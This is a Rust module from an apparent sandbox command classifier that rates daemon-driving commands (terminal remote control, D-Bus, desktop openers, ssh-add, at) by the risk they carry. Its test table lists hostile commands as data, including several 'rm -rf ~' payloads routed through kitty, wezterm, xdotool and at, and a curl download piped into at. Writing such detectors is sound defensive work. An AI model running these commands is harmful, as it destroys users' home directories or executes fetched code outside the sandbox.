//! Programs that ask a daemon to act: terminal multiplexers (`tmux`, `screen`, in
//! [`super::multiplexers`]), terminals
//! (`kitty @`, `wezterm cli`, `zellij`), the desktop (`xdg-open`, D-Bus, `xdotool`), the SSH
//! agent, the `at` daemon.
//!
//! A command inherits the sockets of these daemons (`TMUX`, `STY`, `DBUS_SESSION_BUS_ADDRESS`,
//! `SSH_AUTH_SOCK`), and the daemon runs what it is asked outside the sandbox: asking one to
//! run code is at least dangerous, and the code is judged as well when it is known.

use super::{Cmd, Inner, Verdict};
use crate::severity::Severity;
use crate::walk::Stdin;
use crate::word::Word;

pub(super) fn classify(cmd: &Cmd<'_>) -> Option<Verdict> {
    let p = cmd.program;
    let v = match p {
        "tmux" | "byobu" | "byobu-tmux" => super::multiplexers::tmux(cmd),
        "screen" | "byobu-screen" => super::multiplexers::screen(cmd),
        "dbus-send" | "gdbus" | "busctl" | "qdbus" | "qdbus6" | "qdbus-qt5" | "dbus-monitor" => {
            dbus(cmd)
        }
        "kitty" | "kitten" => kitty(cmd),
        "wezterm" => wezterm(cmd),
        "zellij" => match sub(cmd, 0) {
            Some("ls" | "list-sessions" | "list-aliases" | "setup" | "--version" | "-V") => {
                Verdict::safe("zellij only lists sessions")
            }
            None => Verdict::normal("zellij starts a terminal session"),
            Some(s) => Verdict::dangerous(format!(
                "zellij {s} drives a running zellij session, which acts outside the sandbox"
            )),
        },
        "xdotool" | "ydotool" | "wtype" | "dotool" | "xte" => match sub(cmd, 0) {
            Some(s) if s.starts_with("get") || s == "search" => {
                Verdict::safe(format!("{p} {s} only reads the desktop's state"))
            }
            _ => Verdict::dangerous(format!(
                "{p} types keys or runs actions in your desktop session, outside the sandbox"
            )),
        },
        "ssh-add" => match cmd.args.iter().all(|w| {
            w.known()
                .is_some_and(|v| matches!(v, "-l" | "-L" | "-T" | "-v" | "-q" | "-E"))
                || w.known().is_some_and(|v| matches!(v, "sha256" | "md5"))
        }) && !cmd.args.is_empty()
        {
            true => Verdict::safe("ssh-add -l only lists the agent's keys"),
            false => Verdict::dangerous(
                "ssh-add changes the keys your SSH agent holds, outside the sandbox",
            ),
        },
        "gpg-connect-agent" => {
            Verdict::dangerous("gpg-connect-agent drives your GnuPG agent, outside the sandbox")
        }
        "xdg-open" | "open" | "start" | "explorer" | "explorer.exe" | "kde-open" | "kde-open5"
        | "gnome-open" | "exo-open" | "wslview" | "gtk-launch" | "dex" | "sensible-browser"
        | "x-www-browser" | "www-browser" | "mimeopen" | "handlr" => {
            let mut v = Verdict::dangerous(format!(
                "{p} hands the file or URL to the desktop, which opens it with another program outside the sandbox"
            ));
            v.metadata_only = true;
            v
        }
        "kioclient" | "kioclient5" | "kioclient6" => Verdict::dangerous(format!(
            "{p} asks the desktop to open or run things, outside the sandbox"
        )),
        "gio" => match sub(cmd, 0) {
            Some("info" | "list" | "tree" | "cat" | "mime" | "help" | "version") => {
                Verdict::safe("gio only reads")
            }
            Some("open" | "launch") => Verdict::dangerous(
                "gio open/launch asks the desktop to run another program, outside the sandbox",
            ),
            Some("trash" | "remove" | "rm") => Verdict::normal("gio removes files").destroys(),
            _ => Verdict::normal("gio changes files"),
        },
        "atq" => Verdict::safe("atq only lists scheduled jobs"),
        "atrm" => Verdict::normal("atrm removes scheduled jobs"),
        "at" | "batch" => at(cmd),
        _ => return None,
    };
    Some(v)
}

/// The `n`th word that is not an option.
fn sub<'a>(cmd: &'a Cmd<'_>, n: usize) -> Option<&'a str> {
    cmd.values().filter(|v| !v.starts_with('-')).nth(n)
}

pub(super) fn text_of(words: &[Word]) -> Option<String> {
    let known: Option<Vec<&str>> = words.iter().map(Word::known).collect();
    known.map(|k| k.join(" "))
}

/// Adds a command a daemon will run: one word is a shell command, several are the program
/// and its arguments (as tmux, kitty and wezterm take them). Analysed when known, dangerous
/// otherwise.
pub(super) fn runs(v: &mut Verdict, words: &[Word], what: &str) {
    if words.len() > 1 {
        v.inner.push(Inner::Argv {
            argv: words.to_vec(),
            per_item: None,
        });
        return;
    }
    if words.is_empty() {
        return;
    }
    match text_of(words) {
        Some(text) => v.inner.push(Inner::Script(text)),
        None => v.raise(
            Severity::Dangerous,
            format!("{what} runs a command not known until run time"),
        ),
    }
}

/// Operands after options; `valued` options take the next word.
pub(super) fn operands_after(words: &[Word], valued: &[&str]) -> Vec<Word> {
    let mut i = 0;
    while let Some(w) = words.get(i) {
        match w.known() {
            Some("--") => return words[i + 1..].to_vec(),
            Some(v) if v.starts_with('-') && v.len() > 1 => {
                i += if valued.contains(&v) { 2 } else { 1 };
            }
            _ => return words[i..].to_vec(),
        }
    }
    Vec::new()
}

fn dbus(cmd: &Cmd<'_>) -> Verdict {
    let p = cmd.program;
    let verb = sub(cmd, 0);
    let reads = match p {
        "busctl" => matches!(
            verb,
            None | Some("list" | "status" | "tree" | "introspect" | "help")
        ),
        "gdbus" => matches!(verb, Some("introspect" | "help")),
        "qdbus" | "qdbus6" | "qdbus-qt5" => cmd.operands(&[]).len() <= 2,
        _ => false,
    };
    if reads || cmd.has(&["--help", "--version", "-h"]) {
        return Verdict::safe(format!("{p} only lists D-Bus services"));
    }
    if p == "dbus-monitor" || matches!(verb, Some("monitor" | "capture")) {
        return Verdict::dangerous(format!(
            "{p} listens to other programs' D-Bus messages, which may hold secrets"
        ));
    }
    Verdict::dangerous(format!(
        "{p} asks a desktop or system service over D-Bus to act, outside the sandbox (it can start programs)"
    ))
}

fn kitty(cmd: &Cmd<'_>) -> Verdict {
    let p = cmd.program;
    let words: Vec<&str> = cmd.values().collect();
    let remote = words.iter().position(|w| *w == "@" || w.starts_with("@"));
    let Some(at) = remote else {
        return Verdict::normal(format!("{p} opens a terminal window"));
    };
    let verb = words
        .get(at + 1..)
        .unwrap_or(&[])
        .iter()
        .find(|w| !w.starts_with('-'))
        .copied()
        .unwrap_or("");
    if matches!(verb, "ls" | "get-colors" | "") {
        return Verdict::safe(format!("{p} @ {verb} only lists windows"));
    }
    let mut v = Verdict::dangerous(format!(
        "{p} @ {verb} drives the running kitty, which acts outside the sandbox"
    ));
    let rest = &cmd.args[at + 1..];
    // the arguments after the verb itself
    let after = rest
        .iter()
        .position(|w| w.known() == Some(verb))
        .map_or(&rest[..0], |i| &rest[i + 1..]);
    match verb {
        "launch" | "run" => {
            let ops = operands_after(
                after,
                &[
                    "--type",
                    "--cwd",
                    "--title",
                    "--window-title",
                    "--tab-title",
                    "--env",
                    "--var",
                    "--match",
                    "-m",
                    "--location",
                ],
            );
            runs(&mut v, &ops, &format!("{p} @ {verb}"));
        }
        "send-text" => {
            let ops = operands_after(
                after,
                &["--match", "-m", "--match-tab", "-t", "--from-file"],
            );
            if let Some(t) = text_of(&ops) {
                v.inner
                    .push(Inner::Script(t.replace("\\n", "\n").replace("\\r", "\n")));
            }
        }
        "get-text" => v.raise(
            Severity::Dangerous,
            "kitty @ get-text reads what other terminals show, which may hold secrets",
        ),
        _ => {}
    }
    v
}

fn wezterm(cmd: &Cmd<'_>) -> Verdict {
    let words: Vec<&str> = cmd.values().filter(|v| !v.starts_with('-')).collect();
    match words.as_slice() {
        ["cli", "list" | "list-clients", ..] => Verdict::safe("wezterm cli list only lists panes"),
        ["cli", verb, ..] => {
            let mut v = Verdict::dangerous(format!(
                "wezterm cli {verb} drives the running wezterm, which acts outside the sandbox"
            ));
            let dash = cmd.args.iter().position(|w| w.known() == Some("--"));
            match (*verb, dash) {
                ("spawn" | "split-pane", Some(d)) => {
                    runs(&mut v, &cmd.args[d + 1..], "wezterm cli spawn")
                }
                ("send-text", _) => {
                    let at = cmd
                        .args
                        .iter()
                        .position(|w| w.known() == Some("send-text"))
                        .unwrap_or(0);
                    let ops = operands_after(&cmd.args[at + 1..], &["--pane-id"]);
                    if let Some(t) = text_of(&ops) {
                        v.inner.push(Inner::Script(t));
                    }
                }
                ("get-text", _) => v.raise(
                    Severity::Dangerous,
                    "wezterm cli get-text reads what other terminals show, which may hold secrets",
                ),
                _ => {}
            }
            v
        }
        _ => Verdict::normal("wezterm opens a terminal window"),
    }
}

/// `at`/`batch` hand a job to the at daemon, which runs it later outside the sandbox.
fn at(cmd: &Cmd<'_>) -> Verdict {
    let p = cmd.program;
    if cmd.has(&["-l", "-c", "-V", "--version"]) {
        return Verdict::safe(format!("{p} -l/-c only shows scheduled jobs"));
    }
    if cmd.has(&["-r", "-d"]) {
        return Verdict::normal(format!("{p} removes scheduled jobs"));
    }
    let mut v = Verdict::dangerous(format!(
        "{p} hands commands to the at daemon, which runs them later outside the sandbox"
    ));
    if let Some(file) = cmd.option_values(&["-f"], &[]).first() {
        v.raise(
            Severity::Dangerous,
            format!("{p} -f schedules the script `{}`", file.display),
        );
        v.reads.push(file.clone());
        return v;
    }
    match cmd.stdin {
        Stdin::Heredoc { body } => v.inner.push(Inner::Script(body.clone())),
        Stdin::Herestring(w) if w.is_known() => v
            .inner
            .push(Inner::Script(w.known().unwrap_or_default().to_string())),
        Stdin::Pipe { download: true } => v.raise(
            Severity::Critical,
            format!("pipes a network download into {p}, which runs it later"),
        ),
        _ => {}
    }
    v
}

#[cfg(test)]
mod tests {
    use crate::classify::test_support::expect;
    use crate::severity::Severity::*;

    #[test]
    fn issue_12_4_daemon_drivers_are_rated_by_what_they_can_do() {
        expect(&[
            ("dbus-send --session --dest=org.x / org.x.Y", Dangerous),
            (
                "gdbus call --session --dest org.x --object-path / --method org.x.Y",
                Dangerous,
            ),
            ("busctl --user call org.x / org.x Y", Dangerous),
            ("busctl list", Safe),
            ("dbus-monitor", Dangerous),
            ("kitty @ launch --type=tab rm -rf ~", Critical),
            ("kitty @ send-text 'ls\\n'", Dangerous),
            ("kitty @ ls", Safe),
            ("wezterm cli spawn -- sh -c 'rm -rf ~'", Critical),
            ("wezterm cli send-text 'id'", Dangerous),
            ("wezterm cli list", Safe),
            ("zellij run -- make", Dangerous),
            ("xdotool type 'rm -rf ~'", Dangerous),
            ("ssh-add ~/.ssh/id_ed25519", Critical),
            ("ssh-add -D", Dangerous),
            ("ssh-add -l", Safe),
            ("xdg-open https://example.com", Dangerous),
            ("open -a Terminal .", Dangerous),
            ("gio open x.desktop", Dangerous),
            ("gio info x", Safe),
            ("echo 'rm -rf ~' | at now", Dangerous),
            ("at now <<'EOF'\nrm -rf ~\nEOF", Critical),
            ("at now + 1 minute <<< 'make'", Dangerous),
            ("curl -s https://x/job | at now", Critical),
            ("batch <<< 'ls'", Dangerous),
            ("at -l", Safe),
            ("atq", Safe),
        ]);
    }
}
